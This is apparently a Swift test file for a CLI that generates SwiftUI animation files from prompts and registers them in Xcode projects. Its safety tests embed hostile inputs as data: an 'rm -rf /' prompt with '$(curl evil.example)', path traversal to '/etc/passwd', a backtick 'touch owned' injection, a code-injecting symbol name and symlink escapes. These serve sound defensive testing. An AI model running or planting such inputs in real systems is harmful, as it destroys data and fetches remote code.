import CommandLineKit
import Foundation
import Testing

@testable import AnimoKit

struct CreateRunTests {
  private func classicProject() throws -> TemporaryFolder {
    let folder = try TemporaryFolder()
    try folder.write(ProjectFixture.classic(), to: "Demo.xcodeproj/project.pbxproj")
    try folder.write("enum HapticFeedback {}\n", to: "Demo/Animations/HapticFeedback.swift")
    try folder.makeFolder("Demo/Carousels")
    for name in ["photo10", "photo2", "photo1"] {
      try folder.write("{}", to: "Demo/Assets.xcassets/\(name).imageset/Contents.json")
    }
    return folder
  }

  // MARK: Output, byte for byte

  @Test func anEmptyFolderGetsAFileAndManualSteps() throws {
    let folder = try TemporaryFolder()
    let report = try folder.create("animate a checkmark")
    #expect(
      report.lines == [
        "🔍  Inferred from prompt:",
        "    Symbol    → checkmark (stroke) → .drawOn",
        "    Mode      → showcase (auto-loop)",
        "    Container → none",
        "    Controls  → none",
        "⚙️  swiftui-microinteractions v1.25.1",
        "🖼️  Assets: none found, using placeholders",
        "🎯  Archetype: Symbol Showcase",
        "⚡  Physics: easeInOut 0.4 — the symbol effect owns its timing",
        "🎮  Haptics: none",
        "🏗️  State: Simple — isDrawSymbolHidden",
        "✍️  Writing CheckmarkSymbolView.swift…",
        "✅ Saved to CheckmarkSymbolView.swift",
        "",
        "⚠️  No Xcode project found. Add the file manually:",
        "    File path: \(folder.path)/CheckmarkSymbolView.swift",
        "    In Xcode: File → Add Files to \"ProjectName\"",
        "              or drag into the Navigator → check \"Add to target\"",
        "",
        "```swift",
        "DemoItem(",
        "    row: RowView(icon: \"✨\", title: \"Checkmark Symbol\", desc: \"Symbol Showcase · easeInOut 0.4 · plays by itself\"),",
        "    destination: wrappedDestination { CheckmarkSymbolView() },",
        "    date: \"June 11, 2026\",",
        "    hasDateHeader: true",
        ")",
        "```",
      ])
    #expect(folder.files == ["CheckmarkSymbolView.swift"])
    #expect(try folder.text("CheckmarkSymbolView.swift") == report.source)
  }

  @Test func aClassicProjectIsRegistered() throws {
    let folder = try classicProject()
    let report = try folder.create("snappy card I can rip in half", output: "Demo/Animations")
    let start = try #require(report.lines.firstIndex { $0.hasPrefix("⚙️") })
    #expect(
      Array(report.lines[..<start]) == [
        "🔍  Inferred from prompt:",
        "    Vocab     → \"snappy\" → UI pop 0.35/0.6",
        "    Mode      → interaction (tap/submit)",
        "    Container → inline ZStack",
        "    Controls  → none",
      ])
    #expect(
      Array(report.lines[(start + 1)..<(start + 15)]) == [
        "🖼️  Assets: photo1, photo2, photo10",
        "🎯  Archetype: Gesture Card · tear",
        "⚡  Physics: UI pop 0.35/0.6 — paper gives, then snaps back (overrides physics settle 0.45/0.7)",
        "🎮  Haptics: lightImpact on drag start · mediumImpact at the threshold · heavyImpact on the tear",
        "🏗️  State: Simple — pull, didStartDrag, didCrossThreshold, isTorn",
        "✍️  Writing TearCardView.swift…",
        "✅ Saved to Demo/Animations/TearCardView.swift",
        "",
        "📦  Registered in Xcode project: Demo.xcodeproj",
        "    └─ PBXFileReference  ✓",
        "    └─ PBXBuildFile      ✓",
        "    └─ Group child       ✓",
        "    └─ Sources phase     ✓",
        "",
      ])
    #expect(report.source.contains("HapticFeedback.heavyImpact()"))
    #expect(!report.source.contains("import UIKit"))
    #expect(
      try folder.text("Demo.xcodeproj/project.pbxproj").contains("TearCardView.swift in Sources"))
  }

  @Test func aSynchronizedProjectIsNotEdited() throws {
    let folder = try TemporaryFolder()
    try folder.write(ProjectFixture.synchronized(), to: "Demo.xcodeproj/project.pbxproj")
    try folder.makeFolder("Features")
    let report = try folder.create("wifi", output: "Features")
    #expect(report.lines.contains("📦  File-system-synchronized project — no .pbxproj edit needed."))
    #expect(report.lines.contains("    File placed in: Features"))
    #expect(try folder.text("Demo.xcodeproj/project.pbxproj") == ProjectFixture.synchronized())
  }

  @Test func placeholdersAreNotedAndPhotosNamed() throws {
    let empty = try TemporaryFolder()
    let placeholder = try empty.create("coverflow of posters")
    #expect(
      Array(placeholder.lines.suffix(4)) == [
        "ASSET NOTES:",
        "- Add portrait images to Assets.xcassets/Images/ named: photo1, photo2…",
        "  → Recommended size: 400×600pt, portrait ratio",
        "- Remove placeholder RoundedRectangle once real assets are added",
      ])
    let rich = try classicProject()
    let report = try rich.create("coverflow of posters")
    #expect(
      report.lines.contains("🖼️  Assets found: photo1, photo2, photo10 (using in file)"))
    #expect(report.source.contains("imageName: \"photo10\""))
    #expect(!report.lines.contains("ASSET NOTES:"))
  }

  // MARK: Where files go

  @Test func carouselsAndAnimationsHaveTheirFolders() throws {
    let folder = try TemporaryFolder()
    try folder.makeFolder("Carousels")
    try folder.makeFolder("Animations")
    try folder.makeFolder("legendary-Animo/Carousels")
    #expect(
      try folder.create("carousel of posters").files == [
        "legendary-Animo/Carousels/FanCarouselView.swift"
      ])
    #expect(try folder.create("wifi").files == ["Animations/WifiSymbolView.swift"])
    #expect(
      try folder.create("bell", output: "New/Deep").files == ["New/Deep/BellSymbolView.swift"])
  }

  @Test func nothingIsOverwritten() throws {
    let folder = try TemporaryFolder()
    #expect(try folder.create("wifi").files == ["WifiSymbolView.swift"])
    #expect(try folder.create("wifi").files == ["WifiSymbolView2.swift"])
    #expect(try folder.create("wifi").files == ["WifiSymbolView3.swift"])
    #expect(try folder.text("WifiSymbolView3.swift").contains("struct WifiSymbolView3: View"))
  }

  @Test func aSecondShaderGetsAFunctionOfItsOwn() throws {
    let folder = try TemporaryFolder()
    #expect(
      try folder.create("liquid chrome").files == ["LiquidMetalView.swift", "LiquidMetal.metal"])
    #expect(
      try folder.create("liquid chrome").files == ["LiquidMetalView2.swift", "LiquidMetal2.metal"])
    #expect(try folder.text("LiquidMetalView2.swift").contains("ShaderLibrary.liquidMetal2("))
  }

  @Test func aDryRunWritesNothing() throws {
    let folder = try TemporaryFolder()
    var options = CreateRun.Options(today: "")
    options.isDryRun = true
    let report = try CreateRun(folder: WorkingFolder(folder.path), options: options).run(
      prompt: "wifi")
    #expect(folder.files.isEmpty)
    #expect(report.source.contains("struct WifiSymbolView"))
    #expect(report.lines.last == "note: dry run, WifiSymbolView.swift was not written")
  }

  // MARK: Safety

  @Test(arguments: ["..", "../x", "/tmp", "a/../../x", "/", "out/link/x", "out"])
  func nothingIsWrittenOutside(output: String) throws {
    let outside = try TemporaryFolder()
    let folder = try TemporaryFolder()
    try FileManager.default.createSymbolicLink(
      atPath: "\(folder.path)/out", withDestinationPath: outside.path)
    #expect(throws: CommandFailure.self) { try folder.create("wifi", output: output) }
    #expect(outside.files.isEmpty)
    #expect(folder.files.isEmpty)
  }

  @Test func aLinkToNowhereIsNotWrittenThrough() throws {
    let folder = try TemporaryFolder()
    try FileManager.default.createSymbolicLink(
      atPath: "\(folder.path)/gone", withDestinationPath: "/nonexistent-\(UUID().uuidString)")
    #expect(throws: CommandFailure.self) { try folder.create("wifi", output: "gone") }
  }

  @Test func anAnimationsFolderThatLeadsOutIsRefused() throws {
    let outside = try TemporaryFolder()
    let folder = try TemporaryFolder()
    try FileManager.default.createSymbolicLink(
      atPath: "\(folder.path)/Animations", withDestinationPath: outside.path)
    #expect(throws: CommandFailure.self) { try folder.create("wifi") }
    #expect(outside.files.isEmpty)
  }

  @Test func aProjectFileThatLeadsOutIsNotEditedAndTheRunTakenBack() throws {
    let outside = try TemporaryFolder()
    try outside.write(ProjectFixture.classic(), to: "project.pbxproj")
    let folder = try TemporaryFolder()
    try folder.makeFolder("Demo.xcodeproj")
    try FileManager.default.createSymbolicLink(
      atPath: "\(folder.path)/Demo.xcodeproj/project.pbxproj",
      withDestinationPath: "\(outside.path)/project.pbxproj")
    #expect(throws: CommandFailure.self) { try folder.create("wifi") }
    #expect(try outside.text("project.pbxproj") == ProjectFixture.classic())
    #expect(!folder.files.contains("WifiSymbolView.swift"))
  }

  @Test(arguments: [
    "../Evil", "a/b", "lower", "Has Space", "名字", String(repeating: "A", count: 41), "",
  ])
  func namesThatAreNoTypesAreRefused(name: String) throws {
    let folder = try TemporaryFolder()
    #expect(throws: CommandFailure.self) { try folder.create("wifi", name: name) }
    #expect(folder.files.isEmpty)
  }

  @Test func hostilePromptsGiveOrdinaryFiles() throws {
    let folder = try TemporaryFolder()
    for prompt in [
      "rm -rf / ; $(curl evil.example) animate a bell", "a toast that says ../../etc/passwd",
      "animate a \"../../x\" star", "`touch owned` wifi", "card named ../../../x",
    ] {
      let files = try folder.create(prompt).files
      #expect(files.allSatisfy { !$0.contains("/") && !$0.contains("..") })
    }
    #expect(!folder.files.contains("owned"))
  }

  @Test(.enabled(if: geteuid() != 0, "root may write everywhere"))
  func aReadOnlyFolderIsNamedInTheError() throws {
    let folder = try TemporaryFolder()
    try FileManager.default.setAttributes([.posixPermissions: 0o555], ofItemAtPath: folder.path)
    #expect(throws: CommandFailure.self) { try folder.create("wifi") }
  }

  @Test func aProjectThatIsNotUnderstoodStaysAsItIsAndTheReasonIsShown() throws {
    let folder = try TemporaryFolder()
    try folder.write("{ objectVersion = 100; }", to: "Demo.xcodeproj/project.pbxproj")
    let report = try folder.create("wifi")
    #expect(
      report.lines.contains(
        "⚠️  Demo.xcodeproj was left untouched: its objectVersion is 100, and 46 to 77 are understood. Add the file manually:"
      ))
    #expect(report.registration == "untouched")
    #expect(try folder.text("Demo.xcodeproj/project.pbxproj") == "{ objectVersion = 100; }")
    #expect(folder.files.contains("WifiSymbolView.swift"))
  }

  @Test func whatWasWrittenIsTakenBackWhenTheProjectCannotBe() throws {
    // The project file is a folder: reading it fails after the Swift file is written.
    let folder = try TemporaryFolder()
    try folder.makeFolder("Demo.xcodeproj/project.pbxproj")
    do {
      _ = try folder.create("liquid chrome", output: "New/Deep")
      Issue.record("it was written")
    } catch let failure as CommandFailure {
      #expect(failure.message.hasSuffix("nothing was changed"))
      #expect(failure.message.contains("cannot read"))
    }
    #expect(folder.files.isEmpty)
    #expect(!FileManager.default.fileExists(atPath: "\(folder.path)/New"))
  }

  @Test func theNearestProjectIsChosen() throws {
    let folder = try TemporaryFolder()
    try folder.write(ProjectFixture.classic(), to: "A/Demo.xcodeproj/project.pbxproj")
    try folder.write(ProjectFixture.classic(), to: "B/Other.xcodeproj/project.pbxproj")
    try folder.write(ProjectFixture.classic(), to: "Pods/Pods.xcodeproj/project.pbxproj")
    let report = try folder.create("wifi", output: "B/Demo/Animations")
    #expect(report.project == "B/Other.xcodeproj")
    #expect(try folder.text("A/Demo.xcodeproj/project.pbxproj") == ProjectFixture.classic())
  }

  // MARK: Specs

  @Test func aSpecSurvivesJSONAndGivesTheSameFile() throws {
    let spec = try Inference("soft coverflow of five posters in purple").spec
    let data = try JSONEncoder().encode(spec)
    let back = try JSONDecoder().decode(InteractionSpec.self, from: data)
    #expect(back == spec)
    let folder = try TemporaryFolder()
    let run = CreateRun(folder: try WorkingFolder(folder.path), options: .init(today: ""))
    let report = try run.run(spec: back)
    let other = try TemporaryFolder()
    #expect(try other.create("soft coverflow of five posters in purple").source == report.source)
  }

  @Test func specsThatMakeNoSenseAreRefused() throws {
    var spec = try Inference("wifi").spec
    spec.pattern = .rings
    #expect(throws: SpecError.self) { try spec.validated() }
    spec = try Inference("slider").spec
    spec.steps = 1_000_000
    #expect(throws: SpecError.self) { try spec.validated() }
    spec = try Inference("wifi").spec
    spec.symbol?.name = "x\"); evil(\""
    #expect(throws: SpecError.self) { try spec.validated() }
    spec = try Inference("wifi").spec
    spec.motion = .spring(response: .nan, damping: 1)
    #expect(throws: SpecError.self) { try spec.validated() }
  }
}
